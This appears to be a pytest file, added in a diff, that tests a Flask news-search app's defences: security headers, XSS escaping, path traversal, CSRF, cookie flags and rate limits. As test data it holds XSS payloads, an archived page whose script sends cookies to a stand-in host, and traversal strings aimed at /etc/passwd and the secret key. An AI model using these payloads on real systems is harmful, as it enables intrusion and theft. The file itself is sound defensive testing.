@@ -1,0 +1,470 @@
+"""Hostile users on the web side: security headers on every route, XSS, path traversal, CSRF and rate limits.
+
+The app runs on a real index holding the web tests' sample corpus plus one hostile article whose title, text,
+source and archived page carry script payloads. Every route of the app's URL map is visited (a new route
+that this file does not know fails `test_every_route_is_covered`), including error answers, feeds, exports,
+static files and the archived copy; each answer must carry the security headers, and no payload may come
+back as live markup.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from werkzeug.test import TestResponse
+
+from crawler.archive import ArchiveWriter, Exchange, iso_now
+from index.models import Record
+from searchapp import create_app
+from tests.webfixtures import sample_records
+
+ADMIN = "admin-token-for-tests-0123456789"
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "{{7*7}}{% raw %}",
+]
+# What must never appear in a page: the payloads' live parts.
+LIVE = re.compile(r"<script>alert|<img src=x|<svg/onload|onerror=alert\(1\)>", re.IGNORECASE)
+ARCHIVED_PAGE = (
+    b"<!DOCTYPE html><html><head><title>archived</title>"
+    b"<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script></head>"
+    b"<body><p onclick=\"alert(1)\">Archived text</p><iframe src='http://127.0.0.1:9/'></iframe></body></html>"
+)
+
+
+def hostile_record(warc_file: str, offset: int) -> Record:
+    title = " ".join(PAYLOADS)
+    text = "Налоги и бюджет Алматы. " + " ".join(PAYLOADS) + "\n\nВторой абзац о налогах " + PAYLOADS[0]
+    return Record(
+        id="hostile01",
+        url="https://batys.kz/news/hostile.html",
+        source="batys.kz",
+        title=title,
+        lead=PAYLOADS[1],
+        text=text,
+        lang="ru",
+        published="2025-01-20",
+        authors=[PAYLOADS[2]],
+        fetched_at="2025-01-20T08:00:00Z",
+        paragraph_langs=["ru", "ru"],
+        regions=["KZ-75"],
+        warc_file=warc_file,
+        warc_offset=offset,
+    )
+
+
+def _archive(folder: Path) -> tuple[str, int]:
+    writer = ArchiveWriter(folder)
+    try:
+        return writer.write(
+            Exchange(
+                url="https://batys.kz/news/hostile.html",
+                request_headers=[("User-Agent", "test")],
+                status=200,
+                reason="OK",
+                response_headers=[("Content-Type", "text/html; charset=utf-8")],
+                body=ARCHIVED_PAGE,
+                fetched_at=iso_now(),
+                role="article",
+            )
+        )
+    finally:
+        writer.close()
+
+
+def _open_index(path: Path) -> Any:
+    from index import open_index
+
+    try:
+        return open_index(path)
+    except ModuleNotFoundError:  # TEMPORARY until index/engine.py lands (as in tests/webfixtures.py)
+        from tests._scaffold_index import ScaffoldIndex
+
+        return ScaffoldIndex(path)
+
+
+def _make_app(data: Path, **settings: Any) -> Flask:
+    config = {"data": str(data), "TESTING": True, "ui_lang": "en", "admin_token": ADMIN, **settings}
+    return create_app(config)
+
+
+@pytest.fixture(scope="module")
+def sec_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
+    data = tmp_path_factory.mktemp("secdata")
+    app = _make_app(data, saved_search_rate=1000)
+    warc_file, offset = _archive(app.config["PATHS"].archive)
+    index = _open_index(app.config["PATHS"].index)
+    index.add([*sample_records(), hostile_record(warc_file, offset)])
+    app.extensions["searchapp.index"] = index
+    yield app
+    index.close()
+
+
+@pytest.fixture
+def sec(sec_app: Flask) -> FlaskClient:
+    return sec_app.test_client()
+
+
+def csrf_of(page: str) -> str:
+    found = re.search(r'name="csrf_token" value="([^"]+)"', page)
+    assert found is not None, "the page has no CSRF field"
+    return found.group(1)
+
+
+def saved_search(client: FlaskClient, name: str = "Алматы налоги", q: str = "zzqxnothing") -> dict[str, str]:
+    response = client.post("/api/saved-searches", json={"name": name, "q": q, "region": ["KZ-75"]})
+    assert response.status_code == 201, response.get_data(as_text=True)
+    urls: dict[str, str] = response.get_json()
+    return {k: re.sub(r"^https?://[^/]+", "", v) for k, v in urls.items()}
+
+
+# --- security headers on every route -----------------------------------------------------------------------
+
+
+def assert_headers(response: TestResponse, where: str) -> None:
+    csp = response.headers.get("Content-Security-Policy", "")
+    assert csp, f"{where}: no Content-Security-Policy"
+    assert "frame-ancestors" in csp, f"{where}: CSP without frame-ancestors"
+    assert "default-src" in csp, f"{where}: CSP without default-src"
+    assert "'unsafe-inline'" not in re.sub(r"style-src[^;]*", "", csp), f"{where}: inline scripts allowed"
+    assert response.headers.get("X-Content-Type-Options") == "nosniff", f"{where}: no nosniff"
+    assert response.headers.get("X-Frame-Options") in ("DENY", "SAMEORIGIN"), f"{where}: no frame policy"
+
+
+def visits(client: FlaskClient) -> list[tuple[str, str, str, dict[str, Any]]]:
+    """(endpoint, method, path, request kwargs) for every route, with good and bad inputs and the error pages."""
+    urls = saved_search(client, name="headers")
+    admin = {"headers": {"Authorization": f"Bearer {ADMIN}"}}
+    return [
+        ("static", "GET", "/static/style.css", {}),
+        ("static", "GET", "/static/nope.css", {}),
+        ("ui.home", "GET", "/", {}),
+        ("ui.home", "GET", "/?q=налогах&region=KZ-75&sort=date", {}),
+        ("ui.home", "GET", "/?region=<script>", {}),
+        ("ui.home", "GET", "/?date_from=yesterday", {}),
+        ("ui.article", "GET", "/articles/rec0001", {}),
+        ("ui.article", "GET", "/articles/hostile01", {}),
+        ("ui.article", "GET", "/articles/nope", {}),
+        ("ui.archived", "GET", "/articles/hostile01/archived", {}),
+        ("ui.archived", "GET", "/articles/rec0001/archived", {}),
+        ("ui.export_csv", "GET", "/export.csv?q=налогах", {}),
+        ("ui.export_json", "GET", "/export.json?region=KZ-61", {}),
+        ("ui.export_json", "GET", "/export.json?page=abc", {}),
+        ("ui.opensearch", "GET", "/opensearch.xml", {}),
+        ("api.search", "GET", "/api/search?q=налогах", {}),
+        ("api.search", "GET", "/api/search?amount_min=-5", {}),
+        ("api.article", "GET", "/api/articles/hostile01", {}),
+        ("api.article", "GET", "/api/articles/nope", {}),
+        ("api.openapi", "GET", "/api/openapi.json", {}),
+        ("feeds.save_form", "POST", "/feeds/save", {"data": {"q": "x"}}),
+        ("feeds.rss", "GET", urls["rss"], {}),
+        ("feeds.rss", "GET", "/feeds/nope.rss", {}),
+        ("feeds.atom", "GET", urls["atom"], {}),
+        ("feeds.manage", "GET", urls["manage"], {}),
+        ("feeds.manage", "GET", "/feeds/manage/nope", {}),
+        ("feeds.manage_post", "POST", urls["manage"], {"data": {"name": "x"}}),
+        ("feeds.opml", "GET", "/feeds/opml", {}),
+        ("saved_api.create_saved_search", "POST", "/api/saved-searches", {"json": {"q": "x"}}),
+        ("saved_api.create_saved_search", "POST", "/api/saved-searches", {"data": "q=x"}),
+        ("admin.reindex", "POST", "/api/admin/reindex", {}),
+        ("admin.crawl", "POST", "/api/admin/crawl", {}),
+        ("admin.delete_saved_search", "DELETE", "/api/admin/saved-searches/nope", admin),
+        ("admin.delete_saved_search", "DELETE", "/api/admin/saved-searches/nope", {}),
+        ("", "GET", "/no/such/page", {}),
+        ("", "GET", "/api/no/such/endpoint", {}),
+        ("", "PUT", "/", {}),
+        ("", "POST", "/api/search", {}),
+    ]
+
+
+def test_every_route_is_covered(sec_app: Flask, sec: FlaskClient) -> None:
+    endpoints = {rule.endpoint for rule in sec_app.url_map.iter_rules()}
+    covered = {endpoint for endpoint, *_ in visits(sec)}
+    assert endpoints <= covered, f"routes without a security check here: {sorted(endpoints - covered)}"
+
+
+def test_security_headers_on_every_response(sec: FlaskClient) -> None:
+    statuses = set()
+    for _endpoint, method, path, kwargs in visits(sec):
+        response = sec.open(path, method=method, **kwargs)
+        statuses.add(response.status_code)
+        assert response.status_code < 500, f"{method} {path}: {response.status_code}"
+        assert_headers(response, f"{method} {path} ({response.status_code})")
+        response.close()
+    assert {200, 400, 403, 404, 405} <= statuses  # the error answers were visited, not only the good ones
+
+
+# --- XSS ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_query_is_escaped_where_echoed(sec: FlaskClient, payload: str) -> None:
+    page = sec.get("/", query_string={"q": payload}).get_data(as_text=True)
+    assert not LIVE.search(page)
+    if "<" in payload:
+        assert html.escape(payload, quote=False).split("&lt;")[1][:6] in page  # echoed, but as text
+
+
+@pytest.mark.parametrize("name", ["region", "sector", "country", "lang", "source", "sort", "date_from", "amount_min"])
+@pytest.mark.parametrize("path", ["/", "/api/search", "/export.csv"])
+def test_bad_parameter_values_are_escaped_in_errors(sec: FlaskClient, name: str, path: str) -> None:
+    response = sec.get(path, query_string={name: PAYLOADS[1]})
+    assert response.status_code == 400
+    if path.startswith("/api"):
+        # JSON may carry the value as it came (a JSON string is not markup); nosniff keeps browsers from guessing
+        assert response.mimetype == "application/json"
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+    else:
+        assert response.mimetype == "text/html"
+        assert not LIVE.search(response.get_data(as_text=True))
+
+
+def test_hostile_record_is_escaped_in_results_snippets_and_facets(sec: FlaskClient) -> None:
+    for query in ("налогах", "alert", "script", ""):
+        page = sec.get("/", query_string={"q": query, "source": "batys.kz"}).get_data(as_text=True)
+        assert "налог" in page.lower() or query == "alert" or query == "script"
+        assert not LIVE.search(page), query
+    data = sec.get("/api/search", query_string={"q": "налогах"}).get_json()
+    hostile = [r for r in data["results"] if r["id"] == "hostile01"]
+    assert hostile, "the hostile record is not found"
+    snippet = hostile[0]["snippet"]
+    assert not LIVE.search(snippet)  # the API snippet is HTML with <mark>: the text in it must be escaped
+    assert set(re.findall(r"</?([a-zA-Z]+)", snippet)) <= {"mark"}
+
+
+def test_hostile_record_is_escaped_on_its_page(sec: FlaskClient) -> None:
+    page = sec.get("/articles/hostile01").get_data(as_text=True)
+    assert "Налоги и бюджет" in page
+    assert not LIVE.search(page)
+    assert 'href="javascript:' not in page
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="searchapp/feeds.py _entry reads getattr(record, scheme + 's'): Record has no 'countrys', so every "
+    "feed with a matching article answers 500",
+)
+def test_feeds_carry_hostile_text_as_text(sec: FlaskClient) -> None:
+    urls = saved_search(sec, name=PAYLOADS[0], q="налогах")  # matches the hostile article
+    for kind in ("rss", "atom"):
+        response = sec.get(urls[kind])
+        assert response.status_code == 200
+        root = ET.fromstring(response.data)
+        titles = [el.text for el in root.iter() if el.tag.rsplit("}", 1)[-1] == "title"]
+        assert PAYLOADS[0] in titles  # the saved search's name, as text
+        assert any(PAYLOADS[1] in (t or "") for t in titles)  # the hostile article's title, as text
+        assert not any(el.tag.rsplit("}", 1)[-1] in ("script", "img", "svg") for el in root.iter())
+    manage = sec.get(urls["manage"]).get_data(as_text=True)
+    assert not LIVE.search(manage)
+
+
+def test_archived_copy_is_sandboxed(sec: FlaskClient) -> None:
+    response = sec.get("/articles/hostile01/archived")
+    assert response.status_code == 200
+    assert b"Archived text" in response.data
+    csp = [part.strip() for part in response.headers["Content-Security-Policy"].split(";")]
+    assert "sandbox" in csp  # no allow-scripts, no allow-same-origin: scripts never run, no cookies
+    assert "default-src 'none'" in csp
+    assert not any(part.startswith("script-src") for part in csp)  # falls back to default-src 'none'
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_archived_non_html_is_served_as_plain_text(tmp_path: Path) -> None:
+    app = _make_app(tmp_path / "data")
+    writer = ArchiveWriter(app.config["PATHS"].archive)
+    name, offset = writer.write(
+        Exchange(
+            "https://x.kz/a.svg",
+            [],
+            200,
+            "OK",
+            [("Content-Type", "image/svg+xml")],
+            b"<svg onload='alert(1)'/>",
+            iso_now(),
+        )
+    )
+    writer.close()
+    index = _open_index(app.config["PATHS"].index)
+    try:
+        index.add([hostile_record(name, offset)])
+        app.extensions["searchapp.index"] = index
+        response = app.test_client().get("/articles/hostile01/archived")
+        assert response.mimetype == "text/plain"
+        assert "sandbox" in response.headers["Content-Security-Policy"]
+    finally:
+        index.close()
+
+
+# --- path traversal ----------------------------------------------------------------------------------------
+
+TRAVERSALS = [
+    "/static/../../../../etc/passwd",
+    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/static/....//....//etc/passwd",
+    "/static//etc/passwd",
+    "/static/..%5c..%5c..%5cetc%5cpasswd",
+    "/static/%252e%252e/%252e%252e/etc/passwd",
+    "/static/style.css%00.png",
+    "/articles/..%2f..%2f..%2fetc%2fpasswd/archived",
+    "/articles/%2e%2e/archived",
+    "/feeds/..%2f..%2fsecret_key.rss",
+    "/feeds/manage/..%2f..%2fapp.sqlite",
+    "/api/articles/..%2f..%2fsecret_key",
+]
+
+
+@pytest.mark.parametrize("path", TRAVERSALS)
+def test_path_traversal_reads_nothing_outside(sec_app: Flask, sec: FlaskClient, path: str) -> None:
+    secret = (sec_app.config["PATHS"].root / "secret_key").read_text()
+    response = sec.get(path, follow_redirects=True)  # "//" is redirected to "/" first: follow it
+    body = response.get_data(as_text=True)
+    assert response.status_code in (400, 404), f"{path}: {response.status_code}"
+    assert "root:" not in body and secret not in body
+    assert_headers(response, path)
+
+
+@pytest.mark.parametrize("warc_file", ["../secret_key", "/etc/passwd", "..", "../../../../etc/passwd", "x.warc.gz"])
+def test_archived_route_reads_only_files_of_the_archive(tmp_path: Path, warc_file: str) -> None:
+    """A record whose warc_file was tampered with must not make the viewer read another file."""
+    app = _make_app(tmp_path / "data")
+    index = _open_index(app.config["PATHS"].index)
+    try:
+        index.add([hostile_record(warc_file, 0)])
+        app.extensions["searchapp.index"] = index
+        response = app.test_client().get("/articles/hostile01/archived")
+        assert response.status_code == 404
+        assert "root:" not in response.get_data(as_text=True)
+    finally:
+        index.close()
+
+
+# --- CSRF and the guards of state-changing routes ----------------------------------------------------------
+
+
+def test_every_state_changing_route_is_guarded(sec_app: Flask) -> None:
+    """Each POST/PUT/DELETE route refuses a request a cross-site page could make (a plain form, no token)."""
+    client = sec_app.test_client()
+    urls = saved_search(client)
+    forged = {
+        "feeds.save_form": ("/feeds/save", {"data": {"q": "x", "name": "forged"}}),
+        "feeds.manage_post": (urls["manage"], {"data": {"action": "delete"}}),
+        "saved_api.create_saved_search": ("/api/saved-searches", {"data": {"q": "x"}}),
+        "admin.reindex": ("/api/admin/reindex", {"data": {}}),
+        "admin.crawl": ("/api/admin/crawl", {"data": {}}),
+        "admin.delete_saved_search": (f"/api/admin/saved-searches/{urls['id']}", {}),
+    }
+    changing = {
+        rule.endpoint
+        for rule in sec_app.url_map.iter_rules()
+        if rule.methods and rule.methods & {"POST", "PUT", "PATCH", "DELETE"}
+    }
+    assert changing <= set(forged), f"state-changing routes this test does not know: {changing - set(forged)}"
+    for endpoint, (path, kwargs) in forged.items():
+        rule = next(r for r in sec_app.url_map.iter_rules() if r.endpoint == endpoint)
+        method = next(m for m in ("POST", "PUT", "PATCH", "DELETE") if rule.methods and m in rule.methods)
+        response = client.open(path, method=method, **kwargs)
+        assert response.status_code in (400, 403, 404, 415), f"{endpoint}: {response.status_code}"
+    # nothing changed: the saved search is still there
+    assert client.get(urls["rss"]).status_code == 200
+
+
+def test_csrf_token_of_another_session_is_refused(sec_app: Flask) -> None:
+    alice, mallory = sec_app.test_client(), sec_app.test_client()
+    urls = saved_search(alice)
+    token = csrf_of(mallory.get(saved_search(mallory)["manage"]).get_data(as_text=True))
+    for path, data in (("/feeds/save", {"q": "x"}), (urls["manage"], {"action": "delete"})):
+        response = alice.post(path, data={**data, "csrf_token": token})
+        assert response.status_code == 400, path
+        assert response.get_data(as_text=True).count("did not come from this site") == 1
+    own = csrf_of(alice.get(urls["manage"]).get_data(as_text=True))
+    assert alice.post(urls["manage"], data={"action": "delete", "csrf_token": own}).status_code == 303
+
+
+def _cookies(client: FlaskClient) -> list[Any]:
+    client.get("/?ui=kk")
+    urls = saved_search(client)
+    client.get(urls["manage"])
+    cookies = list(client._cookies.values())
+    assert {c.key for c in cookies} >= {"ui_lang", "session"}
+    return cookies
+
+
+def test_cookies_are_httponly(sec_app: Flask) -> None:
+    for cookie in _cookies(sec_app.test_client()):
+        assert cookie.http_only, cookie.key
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="searchapp/security.py sets SESSION_COOKIE_SAMESITE with config.setdefault, but Flask's default config "
+    "already holds the key (None), so the session cookie (which holds the CSRF token) goes out without SameSite",
+)
+def test_cookies_are_samesite(sec_app: Flask) -> None:
+    for cookie in _cookies(sec_app.test_client()):
+        assert (cookie.same_site or "").lower() in ("lax", "strict"), cookie.key
+
+
+def test_admin_routes_need_the_token(sec: FlaskClient) -> None:
+    for method, path in (("POST", "/api/admin/reindex"), ("POST", "/api/admin/crawl"),
+                         ("DELETE", "/api/admin/saved-searches/x")):  # fmt: skip
+        assert sec.open(path, method=method).status_code == 403
+        wrong = sec.open(path, method=method, headers={"Authorization": "Bearer wrong"})
+        assert wrong.status_code == 403
+        assert sec.open(path, method=method, headers={"Authorization": ADMIN}).status_code == 403  # no "Bearer"
+
+
+def test_admin_routes_do_not_exist_without_a_token(tmp_path: Path) -> None:
+    client = create_app({"data": str(tmp_path / "d"), "TESTING": True}).test_client()
+    for method, path in (("POST", "/api/admin/reindex"), ("DELETE", "/api/admin/saved-searches/x")):
+        assert client.open(path, method=method, headers={"Authorization": "Bearer "}).status_code == 404
+
+
+# --- rate limits -------------------------------------------------------------------------------------------
+
+
+def test_saved_search_creation_is_rate_limited_per_client(tmp_path: Path) -> None:
+    app = _make_app(tmp_path / "data", saved_search_rate=3)
+    client = app.test_client()
+    index = _open_index(app.config["PATHS"].index)
+    app.extensions["searchapp.index"] = index
+    try:
+        codes = [client.post("/api/saved-searches", json={"q": f"q{n}"}).status_code for n in range(5)]
+        assert codes == [201, 201, 201, 429, 429]
+        # the form route shares the budget: a browser cannot go around the API's limit
+        page = client.get("/").get_data(as_text=True)
+        if "csrf_token" in page:
+            form = client.post("/feeds/save", data={"q": "x", "csrf_token": csrf_of(page)})
+            assert form.status_code == 429
+        # another client is not limited by the first
+        other = client.post("/api/saved-searches", json={"q": "y"}, environ_base={"REMOTE_ADDR": "10.1.2.3"})
+        assert other.status_code == 201
+        limited = client.post("/api/saved-searches", json={"q": "z"})
+        assert limited.get_json()["error"]["code"] == "rate_limited"
+        assert_headers(limited, "429")
+    finally:
+        index.close()
+
+
+def test_admin_routes_are_rate_limited(tmp_path: Path) -> None:
+    app = _make_app(tmp_path / "data")
+    client = app.test_client()
+    codes = [
+        client.delete("/api/admin/saved-searches/none", headers={"Authorization": f"Bearer {ADMIN}"}).status_code
+        for _ in range(35)
+    ]
+    assert codes[:30] == [404] * 30
+    assert set(codes[30:]) == {429}
